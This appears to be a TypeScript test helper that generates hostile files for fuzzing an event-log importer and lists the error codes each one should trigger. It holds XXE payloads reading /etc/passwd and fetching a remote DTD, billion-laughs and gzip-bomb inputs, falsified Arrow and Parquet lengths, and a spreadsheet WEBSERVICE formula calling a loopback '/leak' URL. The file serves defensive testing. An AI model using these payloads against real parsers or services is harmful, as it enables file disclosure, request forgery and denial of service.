/**
 * The hostile inputs, generated on the fly into a temporary folder (big ones streamed, none
 * committed). Each names the answer a face must give: a correct import with counts found by
 * hand, one of some typed error codes, or either.
 */
import { createWriteStream } from 'node:fs';
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { once } from 'node:events';
import { createGzip, gzipSync } from 'node:zlib';
import { tableFromArrays, tableToIPC } from 'apache-arrow';
import ExcelJS from 'exceljs';
import { generateToFile } from '../../src/generate/index.js';
import { importLog } from '../../src/ingest/import-log.js';
import { saveCompiledLog } from '../../src/log/log-file.js';
import { REPO } from './harness.js';

/** What a face must answer for an input. */
export interface Expected {
  /** A correct import with these counts (found by hand). */
  ok?: { cases: number; events: number };
  /** Typed error codes accepted. */
  codes?: string[];
}

/** One hostile input on disk. */
export interface HostileInput {
  name: string;
  file: string;
  expect: Expected;
  /** Text that must never appear in an error message (file contents beyond the value). */
  secret?: string;
}

/** The fixture of the server tests: 5 invoices, 12 events (counted by hand). */
export const SEED_CSV = path.join(REPO, 'test', 'fixtures', 'server', 'invoices.csv');

const ROWS: [string, string, string][] = [
  ['i1', 'Invoice Created', '2024-01-01T00:00:00Z'],
  ['i1', 'Payment Received', '2024-01-10T00:00:00Z'],
  ['i2', 'Invoice Created', '2024-02-01T00:00:00Z'],
];

async function streamed(file: string, parts: () => Iterable<string | Buffer>, gzip = false) {
  const out = createWriteStream(file);
  const sink = gzip ? createGzip({ level: 9 }) : out;
  if (gzip) sink.pipe(out);
  for (const part of parts()) {
    if (!sink.write(part)) await once(sink, 'drain');
  }
  sink.end();
  await once(out, 'close');
}

function* repeat(chunk: string | Buffer, times: number): Iterable<string | Buffer> {
  for (let i = 0; i < times; i++) yield chunk;
}

/** Writes every hostile input into `dir`. */
export async function makeInputs(dir: string): Promise<HostileInput[]> {
  const at = (name: string) => path.join(dir, name);
  const inputs: HostileInput[] = [];
  const add = (name: string, expect: Expected, secret?: string) => {
    inputs.push({ name, file: at(name), expect, secret });
  };
  const csvHead = 'case,activity,timestamp\n';

  // XML external entities, DTDs, billion laughs, deep nesting.
  await writeFile(at('xxe.xes'), '<?xml version="1.0"?>\n<!DOCTYPE log [\n' +
    '<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<log><trace><string key="concept:name" ' +
    'value="&xxe;"/></trace></log>\n');
  add('xxe.xes', { codes: ['LF_ERR_INGEST_BAD_XML'] }, 'root:');
  await writeFile(at('xxe-parameter.xes'), '<?xml version="1.0"?>\n<!DOCTYPE log [\n' +
    '<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>\n<log/>\n');
  add('xxe-parameter.xes', { codes: ['LF_ERR_INGEST_BAD_XML'] });
  const lol = ['<!ENTITY lol "lol">'];
  for (let i = 1; i <= 9; i++) {
    lol.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
  }
  await writeFile(at('billion-laughs.xes'), `<?xml version="1.0"?>\n<!DOCTYPE log [\n${
    lol.join('\n')}\n]>\n<log><trace><string key="concept:name" value="&lol9;"/></trace></log>\n`);
  add('billion-laughs.xes', { codes: ['LF_ERR_INGEST_BAD_XML'] });
  // An external DTD is named but never fetched nor read: the log itself imports (one empty case).
  await writeFile(at('external-dtd.xes'), '<?xml version="1.0"?>\n' +
    '<!DOCTYPE log SYSTEM "file:///etc/passwd">\n<log><trace><string key="concept:name" ' +
    'value="c1"/></trace></log>\n');
  add('external-dtd.xes', { ok: { cases: 1, events: 0 } });
  await streamed(at('deep.xes'), function* () {
    yield '<?xml version="1.0"?>\n<log><trace><event>\n';
    yield* repeat('<list key="x">', 100_000);
    yield* repeat('</list>', 100_000);
    yield '</event></trace></log>\n';
  });
  add('deep.xes', { codes: ['LF_ERR_INGEST_TOO_LARGE'] });

  // Gzip bombs: 256 MiB of one byte compress ~1000:1 to a few hundred KB.
  const zeros = Buffer.alloc(1 << 20, 0x20);
  await streamed(at('bomb.xes.gz'), function* () {
    yield '<?xml version="1.0"?>\n<log>';
    yield* repeat(zeros, 256);
    yield '</log>';
  }, true);
  add('bomb.xes.gz', { codes: ['LF_ERR_INGEST_TOO_LARGE'] });
  const commas = Buffer.alloc(1 << 20, 0x61);
  await streamed(at('bomb.csv.gz'), function* () {
    yield `${csvHead}c1,`;
    yield* repeat(commas, 256);
    yield ',2024-01-01\n';
  }, true);
  add('bomb.csv.gz', { codes: ['LF_ERR_INGEST_TOO_LARGE'] });

  // A 100 MB field and a line of ten million delimiters.
  const chunk = Buffer.alloc(1 << 20, 0x78);
  await streamed(at('huge-field.csv'), function* () {
    yield `${csvHead}c1,"`;
    yield* repeat(chunk, 100);
    yield '",2024-01-01T00:00:00Z\n';
  });
  add('huge-field.csv', { codes: ['LF_ERR_INGEST_TOO_LARGE'] });
  await streamed(at('huge-unquoted.csv'), function* () {
    yield `${csvHead}c1,`;
    yield* repeat(chunk, 100);
    yield ',2024-01-01T00:00:00Z\n';
  });
  add('huge-unquoted.csv', { codes: ['LF_ERR_INGEST_TOO_LARGE'] });
  const delimiters = Buffer.alloc(1 << 20, 0x2c);
  await streamed(at('ten-million-delimiters.csv'), function* () {
    yield `${csvHead}c1,A,2024-01-01T00:00:00Z\n`;
    yield* repeat(delimiters, 10);
    yield '\n';
  });
  add('ten-million-delimiters.csv', { codes: ['LF_ERR_INGEST_TOO_LARGE'] });

  // Bytes: invalid UTF-8, NUL bytes.
  await writeFile(at('bad-utf8.csv'), Buffer.concat([Buffer.from(`${csvHead}c1,Cr`),
    Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from('ated,2024-01-01T00:00:00Z\n')]));
  add('bad-utf8.csv', { codes: ['LF_ERR_INGEST_BAD_ENCODING'] });
  await writeFile(at('overlong-utf8.csv'), Buffer.concat([Buffer.from(`${csvHead}c1,`),
    Buffer.from([0xc0, 0xaf]), Buffer.from(',2024-01-01T00:00:00Z\n')]));
  add('overlong-utf8.csv', { codes: ['LF_ERR_INGEST_BAD_ENCODING'] });
  // NUL is valid UTF-8: two rows of one case, the NUL kept inside the activity name.
  await writeFile(at('nul.csv'), `${csvHead}c1,A\u0000B,2024-01-01T00:00:00Z\n` +
    'c1,B,2024-01-02T00:00:00Z\n');
  add('nul.csv', { ok: { cases: 1, events: 2 }, codes: ['LF_ERR_INGEST_BAD_ROW'] });
  await writeFile(at('nul.xes'), '<?xml version="1.0"?>\n<log><trace><string ' +
    'key="concept:name" value="c\u00001"/></trace></log>\n');
  add('nul.xes', { codes: ['LF_ERR_INGEST_BAD_XML'] });
  await writeFile(at('all-nul.bin'), Buffer.alloc(4096));
  add('all-nul.bin', { codes: ['LF_ERR_INGEST_MISSING_COLUMN', 'LF_ERR_INGEST_BAD_ROW',
    'LF_ERR_INGEST_UNKNOWN_FORMAT', 'LF_ERR_INGEST_EMPTY_FILE'] });

  // A header naming a column twice: by design the first is the role, the repeat becomes the
  // attribute "activity (2)"; one row, so 1 case and 1 event (by hand).
  await writeFile(at('repeated-header.csv'),
    'case,activity,timestamp,activity\nc1,A,2024-01-01T00:00:00Z,B\n');
  add('repeated-header.csv', { ok: { cases: 1, events: 1 } });

  // Timestamps at and past the edge of the JS Date range (±8.64e15 ms around 1970).
  const oneTime = async (name: string, time: string, expect: Expected) => {
    await writeFile(at(name), `${csvHead}c1,A,${time}\n`);
    add(name, expect);
  };
  await oneTime('time-max.csv', '+275760-09-13T00:00:00Z', { ok: { cases: 1, events: 1 },
    codes: ['LF_ERR_INGEST_BAD_TIMESTAMP'] });
  await oneTime('time-max-date.csv', '+275760-09-13', { ok: { cases: 1, events: 1 },
    codes: ['LF_ERR_INGEST_BAD_TIMESTAMP'] });
  await oneTime('time-past-max.csv', '+275760-09-13T00:00:00.001Z',
    { codes: ['LF_ERR_INGEST_BAD_TIMESTAMP'] });
  await oneTime('time-year-999999.csv', '+999999-01-01T00:00:00Z',
    { codes: ['LF_ERR_INGEST_BAD_TIMESTAMP'] });
  await oneTime('time-before-min.csv', '-271821-04-19T23:59:59Z',
    { codes: ['LF_ERR_INGEST_BAD_TIMESTAMP'] });
  await oneTime('time-epoch-huge.csv', '99999999999999999999',
    { codes: ['LF_ERR_INGEST_BAD_TIMESTAMP'] });
  await writeFile(at('time-max.xes'), '<?xml version="1.0"?>\n<log><trace><string ' +
    'key="concept:name" value="c1"/><event><string key="concept:name" value="A"/><date ' +
    'key="time:timestamp" value="+275760-09-13T00:00:00.001Z"/></event></trace></log>\n');
  add('time-max.xes', { codes: ['LF_ERR_INGEST_BAD_TIMESTAMP'] });

  // Excel: formulas (one reaching a loopback URL, one an external workbook) and a link.
  await writeXlsx(at('formulas.xlsx'));
  add('formulas.xlsx', { ok: { cases: 2, events: 3 }, codes: ['LF_ERR_INGEST_BAD_TIMESTAMP',
    'LF_ERR_INGEST_BAD_ROW'] });

  // Formats made from good data, then truncated or lied about.
  const seed = await readFile(SEED_CSV);
  const arrow = arrowFile(1234);
  await writeFile(at('good.arrow'), arrow);
  add('good.arrow', { ok: { cases: 1234, events: 1234 } });
  await writeFile(at('lying-lengths.arrow'), lieAboutLength(arrow, 1234, 2 ** 31 - 1));
  add('lying-lengths.arrow', { codes: ['LF_ERR_INGEST_BAD_ARROW'] });
  await writeFile(at('lying-short.arrow'), lieAboutLength(arrow, 1234, 5000));
  add('lying-short.arrow', { codes: ['LF_ERR_INGEST_BAD_ARROW'] });
  await generateToFile(at('good.parquet'), { invoices: 40, seed: 5, format: 'parquet' });
  const parquet = await readFile(at('good.parquet'));
  await writeFile(at('lying-footer.parquet'), withFooterLength(parquet, 0x7fffffff));
  add('lying-footer.parquet', { codes: ['LF_ERR_INGEST_BAD_PARQUET'] });
  await writeFile(at('lying-footer-short.parquet'), withFooterLength(parquet, 20));
  add('lying-footer-short.parquet', { codes: ['LF_ERR_INGEST_BAD_PARQUET'] });
  const compiled = await importLog(SEED_CSV);
  await saveCompiledLog(compiled, at('compiled.arrow'));

  const truncations: [string, Buffer, string[]][] = [
    ['csv', seed, []],
    ['xes', Buffer.from('<?xml version="1.0"?>\n<log><trace><string key="concept:name" ' +
      'value="c1"/><event><string key="concept:name" value="A"/></event></trace></log>\n'),
    ['LF_ERR_INGEST_BAD_XML']],
    ['xes.gz', gzipSync(seedAsXes()), ['LF_ERR_INGEST_BAD_GZIP']],
    ['parquet', parquet, ['LF_ERR_INGEST_BAD_PARQUET']],
    ['arrow', arrow, ['LF_ERR_INGEST_BAD_ARROW']],
    ['xlsx', await readFile(at('formulas.xlsx')), ['LF_ERR_INGEST_BAD_XLSX']],
    ['compiled.arrow', await readFile(at('compiled.arrow')),
      ['LF_ERR_LOG_BAD_COMPILED', 'LF_ERR_INGEST_BAD_ARROW']],
  ];
  for (const [ext, bytes, codes] of truncations) {
    const name = `truncated.${ext}`;
    await writeFile(at(name), bytes.subarray(0, Math.floor(bytes.length * 0.6)));
    // A CSV cut between rows is a shorter valid CSV; cut inside a row, the last row is short.
    add(name, ext === 'csv'
      ? { codes: ['LF_ERR_INGEST_BAD_ROW', 'LF_ERR_INGEST_BAD_TIMESTAMP'] }
      : { codes });
  }
  return inputs;
}

function seedAsXes(): Buffer {
  const traces = ROWS.map(([c, a, t]) => `<trace><string key="concept:name" value="${c}"/>` +
    `<event><string key="concept:name" value="${a}"/><date key="time:timestamp" ` +
    `value="${t}"/></event></trace>`).join('\n');
  return Buffer.from(`<?xml version="1.0"?>\n<log>\n${traces}\n</log>\n`);
}

/** An Arrow IPC file of `rows` events, one case each. */
function arrowFile(rows: number): Buffer {
  const base = Date.UTC(2024, 0, 1);
  const table = tableFromArrays({
    case: Array.from({ length: rows }, (_, i) => `c${i}`),
    activity: Array.from({ length: rows }, (_, i) => (i % 2 === 0 ? 'A' : 'B')),
    timestamp: Array.from({ length: rows }, (_, i) => new Date(base + i * 1000).toISOString()),
  });
  return Buffer.from(tableToIPC(table, 'file'));
}

/**
 * Rewrites every little-endian int64 equal to `rows` (the record batch length and the field
 * node lengths) to `claimed`: the metadata then lies about how many values the buffers hold.
 */
function lieAboutLength(bytes: Buffer, rows: number, claimed: number): Buffer {
  const out = Buffer.from(bytes);
  let changed = 0;
  for (let i = 0; i + 8 <= out.length; i += 8) {
    if (out.readBigInt64LE(i) === BigInt(rows)) {
      out.writeBigInt64LE(BigInt(claimed), i);
      changed++;
    }
  }
  if (changed === 0) throw new Error('no length found to rewrite');
  return out;
}

/** A Parquet file whose trailer claims a footer of `length` bytes. */
function withFooterLength(bytes: Buffer, length: number): Buffer {
  const out = Buffer.from(bytes);
  out.writeUInt32LE(length, out.length - 8);
  return out;
}

/** A workbook of 3 events in 2 cases; the activities and times come from formulas. */
async function writeXlsx(file: string): Promise<void> {
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet('events');
  sheet.addRow(['Case ID', 'Activity', 'Timestamp']);
  sheet.addRow(['c1', { formula: 'WEBSERVICE("http://127.0.0.1:9/leak")',
    result: 'Invoice Created' }, new Date(Date.UTC(2024, 0, 1))]);
  sheet.addRow(['c1', { formula: "'[other.xlsx]Sheet1'!A1", result: 'Payment Received' },
    new Date(Date.UTC(2024, 0, 5))]);
  sheet.addRow([{ text: 'c2', hyperlink: 'http://127.0.0.1:9/link' }, 'Invoice Created',
    new Date(Date.UTC(2024, 1, 1))]);
  await book.xlsx.writeFile(file);
}
